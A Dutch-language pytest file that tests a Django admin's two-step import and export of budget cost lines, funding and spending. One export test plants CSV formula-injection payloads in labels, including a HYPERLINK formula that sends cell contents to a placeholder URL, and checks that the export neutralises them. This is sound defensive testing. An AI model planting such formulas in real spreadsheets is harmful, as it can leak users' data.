"""Import and export of cost lines, funding and spending through the admin's two steps (preview, confirm)."""

from __future__ import annotations

import codecs
import csv
import datetime
import io
import re
from typing import Any

import pytest
from django.contrib.messages import get_messages
from django.forms.models import model_to_dict
from django.utils.html import escape
from pytest_django.asserts import assertContains

from budget.models import CostLine, FundingSource, Spending
from budget.resources import CostLineResource, FundingSourceResource, SpendingResource
from core import clock
from core.formatting import format_amount
from core.roles import COORDINATOR, STEERING_GROUP
from districts.models import Municipality
from districts.resources import MunicipalityResource
from strategy.models import AnnualPlan
from tests.conftest import admin_url, reopened, role_user
from tests.support.imports import (
    confirm,
    csv_file,
    export,
    forged_confirm,
    import_errors,
    read_csv,
    read_xlsx,
    upload,
    xlsx_file,
)

pytestmark = pytest.mark.django_db

HEADER = ["Jaar", "Onderdeel", "Omschrijving", "Volgorde", "Bedrag (€)", "Geldstroom", "Groep", "Ten laste van lijn"]


@pytest.fixture
def plan_2024(plan_2024: AnnualPlan) -> AnnualPlan:
    """The 2024 plan reopened, a concept again (it loads as adopted): these imports prepare its budget."""
    return reopened(plan_2024)


def line(**changes: Any) -> list[Any]:
    """A valid new cost line of 2024, with some cells changed."""
    values = {
        "Jaar": "2024",
        "Onderdeel": "bedrijfsvoering",
        "Omschrijving": "Nieuwe kosten",
        "Volgorde": "900",
        "Bedrag (€)": "12500",
        "Geldstroom": "regulier",
        "Groep": "",
        "Ten laste van lijn": "",
    }
    values.update(changes)
    return [values[column] for column in HEADER]


def snapshot() -> list[dict[str, Any]]:
    return [model_to_dict(cost_line) for cost_line in CostLine.objects.order_by("pk")]


def assert_refused(client: Any, content: bytes, expected: str, fmt: str = "csv") -> None:
    """The preview shows `expected` and offers no confirmation; a forged confirmation writes nothing either."""
    before = snapshot()
    response = upload(client, CostLine, content, fmt)
    assert response.status_code == 200
    assert expected in import_errors(response), import_errors(response)
    assertContains(response, escape(expected))
    assert "confirm_form" not in response.context
    assert snapshot() == before

    forged = forged_confirm(client, CostLine, content, fmt)
    assertContains(forged, escape(expected))
    assertContains(forged, "Er is niets geïmporteerd")
    assert snapshot() == before


# Refused imports: one test per kind of bad row; the valid row next to it is not written either ---------


def test_unknown_plan_is_refused_with_row_and_column(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Jaar="2031", Omschrijving="Andere kosten", Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3, kolom ‘Jaar’: Er is geen jaarplan 2031.")


def test_unknown_group_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(Groep="Lijn 9: bestaat niet")])
    assert_refused(
        bureau_client,
        content,
        "Rij 2, kolom ‘Groep’: Er is geen groep ‘Lijn 9: bestaat niet’ in dit onderdeel van jaarplan 2024.",
    )


CENTS = "Bedragen zijn hele euro's: ‘{}’ heeft centen. Rond het bedrag af op hele euro's."
COMMA = (
    "‘{}’ is geen bedrag in hele euro's: een komma staat voor centen. "
    "Schrijf duizendtallen met een punt (1.234.000) of zonder scheidingsteken (1234000)."
)
NOT_AN_AMOUNT = "Vul een bedrag in hele euro's in, bijvoorbeeld 1234000 of € 1.234.000."


@pytest.mark.parametrize(
    ("amount", "message"),
    [
        ("12500.5", CENTS.format("12500.5")),
        ("1.234,56", CENTS.format("1.234,56")),
        ("€ 99,95", CENTS.format("€ 99,95")),
        # Dutch reads 260,000 as 260 euros; whoever wrote it may have meant 260.000: refused, not guessed.
        ("260,000", COMMA.format("260,000")),
        ("2.60.000", NOT_AN_AMOUNT),
        ("veel", NOT_AN_AMOUNT),
        ("--5", NOT_AN_AMOUNT),
    ],
)
def test_an_amount_that_is_no_whole_number_of_euros_is_refused(bureau_client, plan_2024, amount, message) -> None:
    content = csv_file([HEADER, line(), line(**{"Bedrag (€)": amount, "Omschrijving": "B", "Volgorde": "901"})])
    assert_refused(bureau_client, content, f"Rij 3, kolom ‘Bedrag (€)’: {message}")


@pytest.mark.parametrize(
    ("amount", "expected"),
    [
        ("1234000", 1_234_000),
        ("€ 1.234.000", 1_234_000),
        ("260.000", 260_000),
        ("-12.500", -12_500),
        ("€ -12.500", -12_500),
        ("\u221212.500", -12_500),  # copied from one of our pages, with the real minus sign
        ("-€ 12.500", -12_500),
        ("12.500-", -12_500),
        ("€ 1.234,-", 1_234),
        ("1.234.000,00", 1_234_000),
        ("€\xa01.234", 1_234),  # a non-breaking space, as Excel writes it
        ("", None),  # pm
    ],
)
def test_amounts_are_read_as_people_write_them(bureau_client, plan_2024, amount, expected) -> None:
    content = csv_file([HEADER, line(**{"Bedrag (€)": amount})], delimiter=";")
    assert confirm(bureau_client, upload(bureau_client, CostLine, content)).status_code == 302
    assert CostLine.objects.get(plan=plan_2024, label="Nieuwe kosten").amount == expected


def test_a_fractional_amount_in_xlsx_is_refused(bureau_client, plan_2024) -> None:
    content = xlsx_file([HEADER, line(**{"Bedrag (€)": 12500.5})])
    assert_refused(bureau_client, content, "Rij 2, kolom ‘Bedrag (€)’: " + CENTS.format("12.500,5"), "xlsx")


def test_a_duplicate_within_the_file_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3: Deze regel staat al op rij 2 van het bestand.")


def test_a_duplicate_place_against_the_database_is_refused(bureau_client, plan_2024) -> None:
    taken = CostLine.objects.filter(plan=plan_2024).order_by("order").first()
    content = csv_file([HEADER, line(Volgorde=str(taken.order))])
    assert_refused(bureau_client, content, "Rij 2: Er staat al een kostenregel op deze plaats.")


def test_an_empty_required_field_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER, line(), line(Omschrijving="", Volgorde="901")])
    assert_refused(bureau_client, content, "Rij 3, kolom ‘Omschrijving’: Dit veld kan niet leeg zijn")


def test_a_row_of_an_adopted_plan_is_refused(bureau_client, plan_2024) -> None:
    AnnualPlan.objects.filter(pk=plan_2024.pk).update(status="vastgesteld", adopted_on=datetime.date(2024, 1, 15))
    content = csv_file([HEADER, line()])
    assert_refused(
        bureau_client, content, "Rij 2: Het jaarplan 2024 is vastgesteld; het kan niet meer worden gewijzigd."
    )


def test_a_missing_key_column_is_refused(bureau_client, plan_2024) -> None:
    content = csv_file([HEADER[1:], line()[1:]])
    response = upload(bureau_client, CostLine, content)
    assertContains(response, "Het bestand mist de kolom(men) ‘Jaar’; gevonden zijn de kolommen ‘Onderdeel’,")
    assert "confirm_form" not in response.context
    assert len(response.context["import_errors"]) == 1  # not also an error on every row


# Valid imports ----------------------------------------------------------------------------------


def test_a_valid_import_creates_and_updates_exactly_its_rows(bureau_client, plan_2024) -> None:
    existing = CostLine.objects.get(plan=plan_2024, category="personeel", label="Cluster 1: Regulier")
    others = {pk: values for pk, values in ((c["id"], c) for c in snapshot()) if pk != existing.pk}
    content = csv_file(
        [
            HEADER,
            line(Groep="", **{"Bedrag (€)": "-12500"}),
            [
                "2024",
                "Personele kosten",  # a part by its label works as well as by its key
                existing.label,
                str(existing.order),
                "1400000",
                "regulier",
                existing.group.title,
                "",
            ],
        ]
    )
    preview = upload(bureau_client, CostLine, content)
    assert preview.context["result"].totals["new"] == 1
    assert preview.context["result"].totals["update"] == 1
    assert not CostLine.objects.filter(label="Nieuwe kosten").exists()  # the preview wrote nothing

    response = confirm(bureau_client, preview)
    assert response.status_code == 302
    created = CostLine.objects.get(plan=plan_2024, label="Nieuwe kosten")
    assert (created.category, created.order, created.amount, created.group) == ("bedrijfsvoering", 900, -12500, None)
    existing.refresh_from_db()
    assert existing.amount == 1_400_000
    assert {c["id"]: c for c in snapshot() if c["id"] not in (existing.pk, created.pk)} == others


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_of_the_2024_cost_lines_changes_nothing(bureau_client, plan_2024, fmt) -> None:
    before, records = snapshot(), CostLine.history.count()
    exported = export(bureau_client, CostLine, CostLineResource, fmt).content
    preview = upload(bureau_client, CostLine, exported, fmt)
    assert preview.context["result"].totals == {**EMPTY_TOTALS, "skip": len(before)}
    assert len(before) == 33
    assertContains(preview, "0 nieuw, 0 bijwerken, 33 ongewijzigd.")
    assertContains(preview, '<td class="import-type">Ongewijzigd</td>', count=33)
    response = confirm(bureau_client, preview)
    assert response.status_code == 302
    # Not written at all: no historical record, no new version (forms open elsewhere stay valid).
    assert snapshot() == before
    assert CostLine.history.count() == records
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Import voltooid (kostenregels): er is niets veranderd, alle 33 rijen waren al zo."
    ]


EMPTY_TOTALS = {"new": 0, "update": 0, "delete": 0, "skip": 0, "error": 0, "invalid": 0}


def excel_saved_as_dutch_csv(exported: bytes) -> bytes:
    """What Dutch Excel writes when the export is opened and saved as "CSV (gescheiden door
    lijstscheidingsteken)": Windows-1252, semicolons, CRLF, no BOM, dates as d-m-yyyy."""
    rows = read_csv(exported)
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in rows:
        writer.writerow(
            [re.sub(r"^(\d{4})-(\d{2})-(\d{2})$", lambda m: f"{int(m[3])}-{int(m[2])}-{m[1]}", c) for c in row]
        )
    return out.getvalue().encode("cp1252")


def test_a_dutch_excel_csv_of_the_export_round_trips_unchanged(bureau_client, plan_2024) -> None:
    before, records = snapshot(), CostLine.history.count()
    content = excel_saved_as_dutch_csv(export(bureau_client, CostLine, CostLineResource, "csv").content)
    assert b"Bedrag (\x80)" in content  # the euro sign in Windows-1252
    preview = upload(bureau_client, CostLine, content)
    assert preview.context["result"].totals == {**EMPTY_TOTALS, "skip": 33}
    assert confirm(bureau_client, preview).status_code == 302
    assert (snapshot(), CostLine.history.count()) == (before, records)


def test_the_preview_shows_changed_amounts_as_old_and_new_numbers(bureau_client, plan_2024) -> None:
    existing = CostLine.objects.get(plan=plan_2024, category="personeel", label="Cluster 1: Regulier")
    old = format_amount(existing.amount)
    row = ["2024", "personeel", existing.label, str(existing.order), "1.400.000", "regulier", existing.group.title, ""]
    preview = upload(bureau_client, CostLine, csv_file([HEADER, line(), row], delimiter=";"))
    cells = {row["label"]: [cell.text for cell in row["cells"]] for row in preview.context["preview_rows"]}
    assert cells["Bijwerken"][4] == f"{old} → 1.400.000"
    assert cells["Bijwerken"][2] == existing.label  # unchanged cells show their value
    assert cells["Nieuw"][4] == "12.500"
    assertContains(preview, f"<strong>{old} → 1.400.000</strong>", html=True)
    assertContains(preview, "1 nieuw, 1 bijwerken, 0 ongewijzigd.")

    response = confirm(bureau_client, preview)
    assert [str(m) for m in get_messages(response.wsgi_request)] == [
        "Import voltooid (kostenregels): 1 nieuw, 1 bijgewerkt, 0 ongewijzigd."
    ]


# Export -----------------------------------------------------------------------------------------


def test_formulas_are_neutralised_on_export_and_negative_amounts_stay_numbers(bureau_client, plan_2024) -> None:
    formula = '=HYPERLINK("https://example.org/?d="&A1,"klik")'
    target = CostLine.objects.get(plan=plan_2024, amount=-12500)
    target.label = formula
    target.save()
    others = {"+SUM(A1)": "+", "-2+3": "-", "@cmd": "@", "\tTab": "\t"}
    for pk, text in zip(CostLine.objects.exclude(pk=target.pk).values_list("pk", flat=True), others, strict=False):
        CostLine.objects.filter(pk=pk).update(label=text)

    rows = read_csv(export(bureau_client, CostLine, CostLineResource, "csv").content)
    labels = [row[2] for row in rows[1:]]
    assert "'" + formula in labels
    assert all("'" + text in labels for text in others)
    assert not any(label.startswith(("=", "+", "-", "@", "\t", "\r")) for label in labels)
    assert [row[4] for row in rows if row[2] == "'" + formula] == ["-12500"]

    sheet = read_xlsx(export(bureau_client, CostLine, CostLineResource, "xlsx").content)
    exported = next(row for row in sheet if row[2] == "'" + formula)
    assert exported[4] == -12500 and isinstance(exported[4], int)  # a number, not text
    assert all(not str(row[2]).startswith(("=", "+", "-", "@")) for row in sheet[1:])


def test_neutralised_text_imports_back_unchanged(bureau_client, plan_2024) -> None:
    target = CostLine.objects.get(plan=plan_2024, amount=-12500)
    CostLine.objects.filter(pk=target.pk).update(label="=1+1")
    exported = export(bureau_client, CostLine, CostLineResource, "xlsx").content
    assert confirm(bureau_client, upload(bureau_client, CostLine, exported, "xlsx")).status_code == 302
    target.refresh_from_db()
    assert (target.label, target.amount) == ("=1+1", -12500)


# Who may import ----------------------------------------------------------------------------------


@pytest.fixture
def user_with_role(client: Any) -> Any:
    def make(role: str) -> Any:
        client.force_login(role_user(role, role))
        return client

    return make


@pytest.mark.parametrize("role", [COORDINATOR, STEERING_GROUP])
def test_only_those_who_change_the_budget_may_import_it(user_with_role, plan_2024, role) -> None:
    client = user_with_role(role)
    assert client.get(admin_url(CostLine, "import")).status_code == 403
    response = upload(client, CostLine, csv_file([HEADER, line()]))
    assert response.status_code == 403
    assert forged_confirm(client, CostLine, csv_file([HEADER, line()])).status_code == 403
    assert not CostLine.objects.filter(label="Nieuwe kosten").exists()
    # Reading is for everyone with a login, so is the export.
    assert export(client, CostLine, CostLineResource).status_code == 200


# Funding and spending ------------------------------------------------------------------------------


def test_funding_round_trip_and_strict_amounts(bureau_client, plan_2024) -> None:
    before = list(FundingSource.objects.order_by("pk").values())
    exported = export(bureau_client, FundingSource, FundingSourceResource, "xlsx").content
    assert confirm(bureau_client, upload(bureau_client, FundingSource, exported, "xlsx")).status_code == 302
    assert list(FundingSource.objects.order_by("pk").values()) == before

    header = ["Jaar", "Omschrijving", "Volgorde", "Financier", "Geldstroom", "Bedrag (€)"]
    content = csv_file([header, ["2024", "Extra bijdrage", "99", "gemeenten", "regulier", "260.000,50"]])
    response = upload(bureau_client, FundingSource, content)
    assert import_errors(response) == ["Rij 2, kolom ‘Bedrag (€)’: " + CENTS.format("260.000,50")]
    assert FundingSource.objects.count() == len(before)


SPENDING = ["Jaarplan", "Onderdeel", "Kostenregel", "Jaar", "Kwartaal", "Bedrag (€)", "Toelichting"]


def test_spending_is_imported_by_cost_line_year_and_quarter(bureau_client, plan_2024) -> None:
    content = csv_file(
        [
            SPENDING,
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "1", "300000", "Q1"],
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "2", "-2500", "creditnota"],
        ]
    )
    assert confirm(bureau_client, upload(bureau_client, Spending, content)).status_code == 302
    assert list(Spending.objects.order_by("quarter").values_list("quarter", "amount")) == [(1, 300000), (2, -2500)]

    exported = export(bureau_client, Spending, SpendingResource, "csv").content
    assert read_csv(exported)[1] == ["2024", "personeel", "Cluster 1: Regulier", "2024", "1", "300000", "Q1"]


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        (
            ["2024", "personeel", "Bestaat niet", "2024", "1", "100", ""],
            "Rij 2, kolom ‘Kostenregel’: Er is geen kostenregel ‘Bestaat niet’ in dit onderdeel van jaarplan 2024.",
        ),
        (
            ["2024", "personeel", "Cluster 1: Regulier", "2024", "5", "100", ""],
            "Rij 2, kolom ‘Kwartaal’: Een kwartaal is 1, 2, 3 of 4.",
        ),
    ],
)
def test_bad_spending_rows_are_refused(bureau_client, plan_2024, row, expected) -> None:
    valid = ["2024", "personeel", "Cluster 1: Regulier", "2024", "3", "100", ""]
    response = upload(bureau_client, Spending, csv_file([SPENDING, row, valid]))
    assert expected in import_errors(response), import_errors(response)
    assert "confirm_form" not in response.context
    assert Spending.objects.count() == 0


def test_every_imported_row_gets_a_historical_record_with_the_importer(bureau_client, bureau_admin, plan_2024) -> None:
    # New rows are inserted in bulk; their history is written with them, as for changed rows.
    existing = CostLine.objects.get(plan=plan_2024, category="personeel", label="Cluster 1: Regulier")
    content = csv_file(
        [
            HEADER,
            line(),
            line(Omschrijving="Nog meer kosten", Volgorde="901", **{"Bedrag (€)": "-50"}),
            ["2024", "personeel", existing.label, str(existing.order), "1400000", "regulier", existing.group.title, ""],
        ]
    )
    preview = upload(bureau_client, CostLine, content)
    assert CostLine.history.filter(label="Nieuwe kosten").count() == 0  # the preview wrote no history either
    assert confirm(bureau_client, preview).status_code == 302

    for label, amount in (("Nieuwe kosten", 12500), ("Nog meer kosten", -50)):
        created = CostLine.objects.get(plan=plan_2024, label=label)
        records = list(created.history.all())
        assert len(records) == 1
        assert (records[0].history_type, records[0].history_user, records[0].amount) == ("+", bureau_admin, amount)
        assert records[0].history_date is not None
    changed = existing.history.first()
    assert (changed.history_type, changed.history_user, changed.amount) == ("~", bureau_admin, 1_400_000)
    existing.refresh_from_db()
    assert existing.version == 2


# The export for Dutch Excel ----------------------------------------------------------------------------


def test_the_csv_export_is_for_dutch_excel_and_named_after_what_and_when(bureau_client, plan_2024, monkeypatch) -> None:
    monkeypatch.setattr(clock, "today", lambda: datetime.date(2026, 11, 30))
    response = export(bureau_client, CostLine, CostLineResource, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="kostenregels-2024-2026-11-30.csv"'
    # UTF-8 with a BOM (Excel then reads the € right) and semicolons (Excel then splits the columns).
    assert response.content.startswith(codecs.BOM_UTF8 + ";".join(HEADER).encode() + b"\r\n")

    sheet = export(bureau_client, CostLine, CostLineResource, "xlsx")
    assert sheet["Content-Disposition"] == 'attachment; filename="kostenregels-2024-2026-11-30.xlsx"'
    # Municipalities belong to no plan: no year in the name.
    towns = export(bureau_client, Municipality, MunicipalityResource, "xlsx")
    assert towns["Content-Disposition"] == 'attachment; filename="gemeenten-2026-11-30.xlsx"'


def test_the_export_page_is_dutch_with_a_labelled_select_all_and_no_inline_script(bureau_client, plan_2024) -> None:
    response = bureau_client.get(admin_url(CostLine, "export"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "<h1>Exporteren</h1>" in html
    for english in ("This exporter", "Select all", "Submit", "Amount", "Resource", "Format:"):
        assert english not in html, english
    # The columns by the headings they get in the file.
    columns = re.findall(r'<label for="id_costlineresource_\w+">([^<]+)</label>', html)
    assert columns == HEADER
    # "Alle kolommen": a checkbox with its own label, driven by a script file (the CSP blocks inline handlers).
    assert re.search(
        r'<input type="checkbox" id="id_select_all_columns" checked>\s*<label for="id_select_all_columns">'
        r"<strong>Alle kolommen</strong></label>",
        html,
    )
    assert not re.search(r"\son[a-z]+=", html)
    assert all("src=" in attributes for attributes in re.findall(r"<script([^>]*)>", html))
    assert '<script src="/static/js/export-columns.js" defer></script>' in html
    assert 'option value="0">CSV (Excel; puntkomma&#x27;s, UTF-8)</option>' in html


def test_the_import_pages_are_dutch(bureau_client, plan_2024) -> None:
    form = bureau_client.get(admin_url(CostLine, "import"))
    preview = upload(bureau_client, CostLine, csv_file([HEADER, line()]))
    refused = upload(bureau_client, CostLine, csv_file([HEADER, line(Jaar="2031")]))
    for response in (form, preview, refused):
        html = response.content.decode()
        for english in ("Submit", "Preview", "Confirm import", "Line number", "Errors", "File to import", "Resource"):
            assert english not in html, english
    assertContains(form, '<input type="submit" class="default" value="Bestand controleren">', html=True)
    assertContains(preview, "<h2>Voorbeeld</h2>", html=True)
    assertContains(preview, '<input type="submit" class="default" name="confirm" value="Import bevestigen">', html=True)
    assertContains(refused, "<h2>Er is niets geïmporteerd</h2>", html=True)
